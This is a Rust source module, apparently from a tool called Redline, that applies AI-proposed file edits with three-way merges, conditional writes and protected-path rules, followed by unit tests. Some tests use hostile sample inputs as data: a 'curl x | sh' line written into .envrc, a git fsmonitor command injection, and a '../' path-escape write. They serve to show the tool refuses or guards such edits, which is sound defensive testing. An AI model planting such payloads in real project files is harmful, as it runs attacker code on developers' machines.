//! The accept engine: turning accepted proposals into files on disk, for the app and the CLI.
//!
//! This module is the one place in the crate that writes project files, and it does so only
//! through `redline-project`'s confined, atomic, conditional writes. Accepting is a merge, not an
//! overwrite: the file is read again, and if it changed since the proposal's base the accepted
//! text is merged three-way onto it; a conflict writes nothing. Hashes decide, not timestamps.

use std::cell::RefCell;
use std::collections::HashMap;

use redline_edits::{
    compute_hunks, merge3, plan_reply, sha256_hex, Conflict, FileOutcome, FileStatus, FormatChoice, TextShape,
};
use redline_project::{
    delete_if_unchanged, read_current, rename_file, replace_if_unchanged, PathRule, ProjectRoot,
    ProtectedPaths, Replaced,
};
use serde::Serialize;

/// How often an accept re-reads, merges and retries when the file keeps changing under it.
const MAX_ATTEMPTS: usize = 8;

/// What accepting a text did to its file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AcceptOutcome {
    /// The file still held the base; the accepted text is written.
    Written,
    /// The file changed since the base; the accepted changes were merged onto it and written.
    Merged,
    /// The file already holds the accepted text; nothing was written.
    Unchanged,
    /// The file changed since the base where the accepted changes are; nothing was written.
    Conflict(Conflict),
    /// Nothing was written, for this reason.
    Failed(String),
}

/// Writes `accepted_text` over `path`, which the proposal saw as `base_text`. The file is read
/// again: unchanged, it is replaced; changed, the accepted changes are merged three-way onto what
/// is there (keeping its line endings, BOM and final newline) and a clean merge is written. Every
/// write is conditional on the file still holding what was just read, so a concurrent change is
/// merged in, never overwritten.
pub fn accept_text(root: &ProjectRoot, path: &str, base_text: &str, accepted_text: &str) -> AcceptOutcome {
    let base_hash = sha256_hex(base_text);
    let mut merged = false;
    for _ in 0..MAX_ATTEMPTS {
        let current = match read_text(root, path) {
            Ok(Some(text)) => text,
            Ok(None) => return AcceptOutcome::Failed(format!("{path} no longer exists")),
            Err(message) => return AcceptOutcome::Failed(message),
        };
        let current_hash = sha256_hex(&current);
        let target = if current_hash == base_hash {
            accepted_text.to_string()
        } else {
            merged = true;
            match merge_onto(base_text, &current, accepted_text) {
                Ok(text) => text,
                Err(conflict) => return AcceptOutcome::Conflict(conflict),
            }
        };
        if target == current {
            return AcceptOutcome::Unchanged;
        }
        match replace_if_unchanged(root, path, Some(&current_hash), target.as_bytes()) {
            Ok(Replaced::Written) if merged => return AcceptOutcome::Merged,
            Ok(Replaced::Written) => return AcceptOutcome::Written,
            Ok(Replaced::Changed { .. }) => merged = true,
            Err(e) => return AcceptOutcome::Failed(e.to_string()),
        }
    }
    AcceptOutcome::Failed(format!("{path} kept changing while the edit was being written; try again"))
}

/// The file's text, `None` when it does not exist; an error when it is not UTF-8 or not ours.
fn read_text(root: &ProjectRoot, path: &str) -> Result<Option<String>, String> {
    match read_current(root, path) {
        Ok(Some(bytes)) => String::from_utf8(bytes)
            .map(Some)
            .map_err(|_| format!("{path} is not UTF-8 text; Redline leaves it alone")),
        Ok(None) => Ok(None),
        Err(e) => Err(e.to_string()),
    }
}

/// `merge3` onto the file on disk. When the three texts are not laid out alike (someone switched
/// the file to CRLF, say), they are merged as LF and the result takes the file's shape.
fn merge_onto(base: &str, current: &str, accepted: &str) -> Result<String, Conflict> {
    let shape = TextShape::of(current);
    if TextShape::of(base) == shape && TextShape::of(accepted) == shape {
        return merge3(base, current, accepted);
    }
    let merged = merge3(&lf_form(base), &lf_form(current), &lf_form(accepted))?;
    Ok(shape.restore(&merged))
}

/// No BOM, LF line breaks, a final newline: the form texts of different shapes are merged in.
fn lf_form(text: &str) -> String {
    let body = text.strip_prefix('\u{feff}').unwrap_or(text).replace("\r\n", "\n");
    if body.is_empty() || body.ends_with('\n') {
        body
    } else {
        body + "\n"
    }
}

/// Creates `path` with `text`, only if it still does not exist.
pub fn create_text(root: &ProjectRoot, path: &str, text: &str) -> AcceptOutcome {
    match replace_if_unchanged(root, path, None, text.as_bytes()) {
        Ok(Replaced::Written) => AcceptOutcome::Written,
        Ok(Replaced::Changed { current: Some(c) }) if c == text.as_bytes() => AcceptOutcome::Unchanged,
        Ok(Replaced::Changed { .. }) => AcceptOutcome::Failed(format!(
            "{path} was created by someone else meanwhile; it was left as it is"
        )),
        Err(e) => AcceptOutcome::Failed(e.to_string()),
    }
}

/// Deletes `path` only if it still holds `base_text`.
pub fn delete_text(root: &ProjectRoot, path: &str, base_text: &str) -> AcceptOutcome {
    match delete_if_unchanged(root, path, &sha256_hex(base_text)) {
        Ok(Replaced::Written) => AcceptOutcome::Written,
        Ok(Replaced::Changed { current: None }) => AcceptOutcome::Unchanged,
        Ok(Replaced::Changed { .. }) => {
            AcceptOutcome::Failed(format!("{path} changed since the reply was written; it was not deleted"))
        }
        Err(e) => AcceptOutcome::Failed(e.to_string()),
    }
}

/// Renames `from` to `to` (never over an existing file), then accepts `text` there; if that
/// fails, the rename is undone.
pub fn rename_text(root: &ProjectRoot, from: &str, to: &str, base_text: &str, text: &str) -> AcceptOutcome {
    if let Err(e) = rename_file(root, from, to) {
        return AcceptOutcome::Failed(e.to_string());
    }
    if text == base_text {
        return AcceptOutcome::Written;
    }
    match accept_text(root, to, base_text, text) {
        AcceptOutcome::Unchanged => AcceptOutcome::Written,
        written @ (AcceptOutcome::Written | AcceptOutcome::Merged) => written,
        failed => {
            if let Err(e) = rename_file(root, to, from) {
                return AcceptOutcome::Failed(format!(
                    "{}; and moving it back failed: {e}",
                    describe(&failed)
                ));
            }
            failed
        }
    }
}

fn describe(outcome: &AcceptOutcome) -> String {
    match outcome {
        AcceptOutcome::Conflict(c) => c.to_string(),
        AcceptOutcome::Failed(message) => message.clone(),
        other => format!("{other:?}"),
    }
}

/// The path rules of the project at `root`: the shared table plus its git hooks folder.
pub fn project_rules(root: &ProjectRoot) -> ProtectedPaths {
    ProtectedPaths::new(redline_git::hooks_path_in(root.path()).as_deref())
}

/// The rule for one planned change of `path` (renamed to `renamed_to`, if so). A rename is as
/// strict as the stricter of its two names, and one that would make a symlink point outside
/// the project is refused.
pub fn change_rule(
    root: &ProjectRoot,
    rules: &ProtectedPaths,
    path: &str,
    renamed_to: Option<&str>,
) -> PathRule {
    let each: Vec<PathRule> = [Some(path), renamed_to].into_iter().flatten().map(|p| rules.rule(p)).collect();
    if let Some(refused) = each.iter().find(|r| matches!(r, PathRule::Refused(_))) {
        return refused.clone();
    }
    if let Some(why) = renamed_to.and_then(|to| link_leaves_root(root, path, to)) {
        return PathRule::Refused(why);
    }
    each.into_iter().find(|r| matches!(r, PathRule::Protected(_))).unwrap_or(PathRule::Editable)
}

/// Why moving `from` to `to` is refused when `from` is a symlink that, read from its new folder,
/// would lead outside the project (`docs/readme -> ../README.md` moved up to the root, say).
/// `None` when `from` is no symlink or still points inside.
fn link_leaves_root(root: &ProjectRoot, from: &str, to: &str) -> Option<String> {
    // Through the root's handle, as the rename itself will check it.
    let target = redline_project::link_leaving_on_rename(root, from, to).ok()??;
    Some(format!(
        "renaming {from} to {to} would make the symlink point outside the project ({} read from there leaves the folder); Redline does not create links that lead out",
        target.display()
    ))
}

/// How `redline apply` runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ApplyOptions {
    /// Write nothing; fill each report's diff.
    pub dry_run: bool,
    /// Write protected files too (`.vscode/`, `.envrc`, hooks, …): the person said so.
    pub allow_protected: bool,
}

/// What became of one file of a reply: the plan's statuses (serialized lowercase for the CLI).
pub use redline_edits::FileStatus as ReportStatus;

/// Edit blocks and diff hunks of one file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
pub struct HunkCounts {
    /// Blocks of the reply for this file that found their place.
    pub applied: usize,
    /// Blocks that did not (any failed block leaves the whole file untouched).
    pub failed: usize,
    /// Changed regions between the file and its new text.
    pub changed: usize,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileReport {
    /// The path as the reply wrote it (empty for a reply that could not be read at all).
    pub path: String,
    pub renamed_to: Option<String>,
    pub status: ReportStatus,
    pub error: Option<String>,
    pub hunks: HunkCounts,
    /// The changes as a unified diff; filled for dry runs.
    pub diff: String,
    /// The file had changed since the reply was planned and the edit was merged onto it.
    pub merged: bool,
}

/// Applies a whole reply to the files under `root`, each file exactly as accepting every hunk
/// of its proposal would. A file with any failed block, a path outside the root, a file that is
/// not UTF-8 or that conflicts is reported as failed and left exactly as it was; so is a path
/// the rules refuse (git's own files), and a protected one unless `allow_protected`. A dry run
/// writes nothing and fills each report's diff.
pub fn apply_reply(
    root: &ProjectRoot,
    reply: &str,
    format: FormatChoice,
    options: ApplyOptions,
) -> Vec<FileReport> {
    let read_errors: RefCell<HashMap<String, String>> = RefCell::default();
    let read = |path: &str| match read_text(root, path) {
        Ok(text) => text,
        Err(message) => {
            read_errors.borrow_mut().insert(path.to_string(), message);
            None
        }
    };
    let plan = plan_reply(reply, format, &read);
    let read_errors = read_errors.into_inner();
    let rules = project_rules(root);
    plan.into_iter()
        .map(|outcome| {
            if let Some(message) = read_errors.get(&outcome.path) {
                return failed_report(&outcome, message.clone());
            }
            if let Some(message) = not_allowed(root, &rules, &outcome, options.allow_protected) {
                return failed_report(&outcome, message);
            }
            if options.dry_run {
                planned_report(&outcome)
            } else {
                apply_outcome(root, &outcome)
            }
        })
        .collect()
}

/// Why the rules keep `outcome` from being written, if they do.
fn not_allowed(
    root: &ProjectRoot,
    rules: &ProtectedPaths,
    outcome: &FileOutcome,
    allow_protected: bool,
) -> Option<String> {
    match change_rule(root, rules, &outcome.path, outcome.renamed_to.as_deref()) {
        PathRule::Editable => None,
        PathRule::Refused(message) => Some(message),
        PathRule::Protected(_) if allow_protected => None,
        PathRule::Protected(why) => Some(format!(
            "{} is protected ({why}), so it was not written; check the change and pass --allow-protected to write it",
            outcome.renamed_to.as_deref().unwrap_or(&outcome.path)
        )),
    }
}

fn counts(outcome: &FileOutcome) -> HunkCounts {
    HunkCounts { applied: outcome.blocks_applied, failed: outcome.blocks_failed, changed: outcome.hunks }
}

fn failed_report(outcome: &FileOutcome, error: String) -> FileReport {
    FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: ReportStatus::Failed,
        error: Some(error),
        hunks: counts(outcome),
        diff: String::new(),
        merged: false,
    }
}

/// A failed block fails its whole file: writing the blocks that did match would leave a file
/// half-edited in a way nobody reviewed.
fn refused(outcome: &FileOutcome) -> Option<FileReport> {
    (outcome.status == FileStatus::Failed || outcome.blocks_failed > 0).then(|| {
        let error = outcome.error.clone().unwrap_or_else(|| "no edit could be applied".to_string());
        failed_report(outcome, error)
    })
}

fn base_of(outcome: &FileOutcome) -> &str {
    outcome.proposal.as_ref().map(|p| p.base_text.as_str()).unwrap_or_default()
}

fn planned_report(outcome: &FileOutcome) -> FileReport {
    if let Some(report) = refused(outcome) {
        return report;
    }
    let new_text = outcome.new_text.as_deref().unwrap_or_default();
    let (from, to) = match outcome.status {
        FileStatus::Created => ("/dev/null".to_string(), format!("b/{}", outcome.path)),
        FileStatus::Deleted => (format!("a/{}", outcome.path), "/dev/null".to_string()),
        _ => {
            let to = outcome.renamed_to.as_deref().unwrap_or(&outcome.path);
            (format!("a/{}", outcome.path), format!("b/{to}"))
        }
    };
    FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: outcome.status,
        error: None,
        hunks: counts(outcome),
        diff: unified_diff(&from, &to, base_of(outcome), new_text),
        merged: false,
    }
}

fn apply_outcome(root: &ProjectRoot, outcome: &FileOutcome) -> FileReport {
    if let Some(report) = refused(outcome) {
        return report;
    }
    let base = base_of(outcome);
    let new_text = outcome.new_text.as_deref().unwrap_or_default();
    let result = match (outcome.status, outcome.renamed_to.as_deref()) {
        (FileStatus::Unchanged, _) => AcceptOutcome::Unchanged,
        (FileStatus::Created, _) => create_text(root, &outcome.path, new_text),
        (FileStatus::Deleted, _) => delete_text(root, &outcome.path, base),
        (FileStatus::Renamed, Some(to)) => rename_text(root, &outcome.path, to, base, new_text),
        _ => accept_text(root, &outcome.path, base, new_text),
    };
    let mut report = FileReport {
        path: outcome.path.clone(),
        renamed_to: outcome.renamed_to.clone(),
        status: outcome.status,
        error: None,
        hunks: counts(outcome),
        diff: String::new(),
        merged: result == AcceptOutcome::Merged,
    };
    match result {
        AcceptOutcome::Written | AcceptOutcome::Merged => {}
        AcceptOutcome::Unchanged => report.status = ReportStatus::Unchanged,
        AcceptOutcome::Conflict(c) => {
            report.status = ReportStatus::Failed;
            report.error =
                Some(format!("{}: the file changed since the reply was written: {c}", outcome.path));
        }
        AcceptOutcome::Failed(message) => {
            report.status = ReportStatus::Failed;
            report.error = Some(message);
        }
    }
    report
}

/// Lines of context around each change in [`unified_diff`].
const CONTEXT: usize = 3;

/// A unified diff (`---`/`+++` headers, `@@` hunks with three lines of context) from `old` to
/// `new`; empty when they are equal.
pub fn unified_diff(from: &str, to: &str, old: &str, new: &str) -> String {
    let hunks = compute_hunks(old, new);
    if hunks.is_empty() {
        return String::new();
    }
    let old_lines: Vec<&str> = old.split_inclusive('\n').collect();
    let mut out = format!("--- {from}\n+++ {to}\n");
    let mut first = 0;
    while first < hunks.len() {
        let mut last = first;
        while last + 1 < hunks.len()
            && hunks[last + 1].base_range.start - hunks[last].base_range.end <= 2 * CONTEXT
        {
            last += 1;
        }
        let old_start = hunks[first].base_range.start.saturating_sub(CONTEXT);
        let old_end = (hunks[last].base_range.end + CONTEXT).min(old_lines.len());
        let new_start = hunks[first].proposed_range.start - (hunks[first].base_range.start - old_start);
        let new_end = hunks[last].proposed_range.end + (old_end - hunks[last].base_range.end);
        out.push_str(&format!(
            "@@ -{} +{} @@\n",
            range_label(old_start, old_end),
            range_label(new_start, new_end)
        ));
        let mut pos = old_start;
        for hunk in &hunks[first..=last] {
            push_lines(&mut out, ' ', &old_lines[pos..hunk.base_range.start]);
            push_lines(&mut out, '-', &hunk.old_lines.iter().map(String::as_str).collect::<Vec<_>>());
            push_lines(&mut out, '+', &hunk.new_lines.iter().map(String::as_str).collect::<Vec<_>>());
            pos = hunk.base_range.end;
        }
        push_lines(&mut out, ' ', &old_lines[pos..old_end]);
        first = last + 1;
    }
    out
}

fn range_label(start: usize, end: usize) -> String {
    let len = end - start;
    let first = if len == 0 { start } else { start + 1 };
    format!("{first},{len}")
}

fn push_lines(out: &mut String, prefix: char, lines: &[&str]) {
    for line in lines {
        out.push(prefix);
        out.push_str(line);
        if !line.ends_with('\n') {
            out.push_str("\n\\ No newline at end of file\n");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use redline_edits::Format;
    use std::fs;

    fn project(files: &[(&str, &str)]) -> (tempfile::TempDir, ProjectRoot) {
        let dir = tempfile::tempdir().expect("temp dir");
        for (path, text) in files {
            let abs = dir.path().join(path);
            fs::create_dir_all(abs.parent().expect("parent")).expect("mkdir");
            fs::write(abs, text).expect("write");
        }
        let root = ProjectRoot::open(dir.path()).expect("open");
        (dir, root)
    }

    fn read(dir: &tempfile::TempDir, path: &str) -> String {
        fs::read_to_string(dir.path().join(path)).expect("read")
    }

    #[test]
    fn unchanged_file_gets_the_accepted_text() {
        let (dir, root) = project(&[("f.txt", "a\nb\n")]);
        assert_eq!(accept_text(&root, "f.txt", "a\nb\n", "a\nB\n"), AcceptOutcome::Written);
        assert_eq!(read(&dir, "f.txt"), "a\nB\n");
    }

    #[test]
    fn file_changed_elsewhere_is_merged_not_overwritten() {
        let (dir, root) = project(&[("f.txt", "A\nb\nc\nd\n")]);
        assert_eq!(accept_text(&root, "f.txt", "a\nb\nc\nd\n", "a\nb\nc\nD\n"), AcceptOutcome::Merged);
        assert_eq!(read(&dir, "f.txt"), "A\nb\nc\nD\n");
    }

    #[test]
    fn conflicting_change_writes_nothing() {
        let (dir, root) = project(&[("f.txt", "a\nX\nc\n")]);
        let got = accept_text(&root, "f.txt", "a\nb\nc\n", "a\nY\nc\n");
        assert!(matches!(got, AcceptOutcome::Conflict(_)));
        assert_eq!(read(&dir, "f.txt"), "a\nX\nc\n");
    }

    #[test]
    fn merge_keeps_the_crlf_bom_and_missing_final_newline_on_disk() {
        let (dir, root) = project(&[("f.txt", "\u{feff}A\r\nb\r\nc\r\nd")]);
        let got = accept_text(&root, "f.txt", "a\nb\nc\nd\n", "a\nb\nc\nD\n");
        assert_eq!(got, AcceptOutcome::Merged);
        assert_eq!(read(&dir, "f.txt"), "\u{feff}A\r\nb\r\nc\r\nD");
    }

    #[test]
    fn reply_with_a_failed_block_leaves_that_file_untouched() {
        let (dir, root) = project(&[("a.txt", "one\ntwo\n"), ("b.txt", "x\n")]);
        let reply = "a.txt\n<<<<<<< SEARCH\none\n=======\n1\n>>>>>>> REPLACE\n\na.txt\n<<<<<<< SEARCH\nnope\n=======\n2\n>>>>>>> REPLACE\n\nb.txt\n<<<<<<< SEARCH\nx\n=======\ny\n>>>>>>> REPLACE\n";
        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert_eq!(reports[0].hunks.failed, 1);
        assert_eq!(read(&dir, "a.txt"), "one\ntwo\n");
        assert_eq!(reports[1].status, ReportStatus::Applied);
        assert_eq!(read(&dir, "b.txt"), "y\n");
    }

    #[test]
    fn path_outside_the_root_is_failed_and_never_written() {
        let (dir, root) = project(&[]);
        let reply = "../escape.txt\n<<<<<<< SEARCH\n=======\nhi\n>>>>>>> REPLACE\n";
        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert!(!dir.path().parent().expect("parent").join("escape.txt").exists());
    }

    #[test]
    fn dry_run_prints_a_diff_and_writes_nothing() {
        let (dir, root) = project(&[("f.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n")]);
        let reply = r#"[{"name":"edit_file","arguments":"{\"path\":\"f.txt\",\"old_text\":\"5\\n\",\"new_text\":\"five\\n\"}"}]"#;
        let reports = apply_reply(
            &root,
            reply,
            FormatChoice::Exact(Format::ToolCalls),
            ApplyOptions { dry_run: true, ..ApplyOptions::default() },
        );
        assert_eq!(reports[0].status, ReportStatus::Applied, "{reports:?}");
        assert_eq!(
            reports[0].diff,
            "--- a/f.txt\n+++ b/f.txt\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+five\n 6\n 7\n 8\n"
        );
        assert_eq!(read(&dir, "f.txt"), "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n");
    }

    #[test]
    fn rename_refuses_an_existing_target_and_keeps_both_files() {
        let (dir, root) = project(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
        assert!(matches!(rename_text(&root, "a.txt", "b.txt", "a\n", "A\n"), AcceptOutcome::Failed(_)));
        assert_eq!((read(&dir, "a.txt"), read(&dir, "b.txt")), ("a\n".to_string(), "b\n".to_string()));
    }

    const CREATE_ENVRC: &str =
        "[{\"name\":\"create_file\",\"arguments\":{\"path\":\".envrc\",\"content\":\"curl x | sh\\n\"}}]";

    #[test]
    fn git_files_are_refused_with_the_rule_and_never_written() {
        let (dir, root) = project(&[(".git/config", "[core]\n")]);
        let reply = ".git/config\n<<<<<<< SEARCH\n[core]\n=======\n[core]\n\tfsmonitor = touch /tmp/x\n>>>>>>> REPLACE\n";
        let options = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
        let reports = apply_reply(&root, reply, FormatChoice::Auto, options);
        assert_eq!(reports[0].status, ReportStatus::Failed);
        assert_eq!(reports[0].error.as_deref(), Some(redline_project::GIT_REFUSAL));
        assert_eq!(read(&dir, ".git/config"), "[core]\n");
    }

    #[test]
    fn protected_files_are_written_only_when_allowed() {
        let (dir, root) = project(&[]);
        let reports =
            apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), ApplyOptions::default());
        let error = reports[0].error.as_deref().unwrap_or_default();
        assert!(error.contains("--allow-protected") && error.contains("direnv"), "{reports:?}");
        assert!(!dir.path().join(".envrc").exists());
        let allowed = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
        let reports = apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), allowed);
        assert_eq!(reports[0].status, ReportStatus::Created, "{reports:?}");
        assert_eq!(read(&dir, ".envrc"), "curl x | sh\n");
    }

    #[test]
    fn a_rename_that_would_make_a_symlink_point_outside_is_refused() {
        let (dir, root) = project(&[("README.md", "hi\n")]);
        fs::create_dir_all(dir.path().join("docs/deep")).expect("mkdir");
        std::os::unix::fs::symlink("../README.md", dir.path().join("docs/readme")).expect("link");
        let rules = ProtectedPaths::default();
        let rule = change_rule(&root, &rules, "docs/readme", Some("readme"));
        assert!(matches!(&rule, PathRule::Refused(m) if m.contains("outside the project")), "{rule:?}");
        assert_eq!(change_rule(&root, &rules, "docs/readme", Some("docs/readme2")), PathRule::Editable);
        assert!(matches!(change_rule(&root, &rules, "README.md", Some(".git/x")), PathRule::Refused(_)));
        assert!(matches!(change_rule(&root, &rules, ".envrc", Some("envrc")), PathRule::Protected(_)));
    }

    #[test]
    fn unified_diff_marks_a_missing_final_newline() {
        let diff = unified_diff("a/f", "b/f", "x", "y");
        assert_eq!(diff, "--- a/f\n+++ b/f\n@@ -1,1 +1,1 @@\n-x\n\\ No newline at end of file\n+y\n\\ No newline at end of file\n");
    }
}
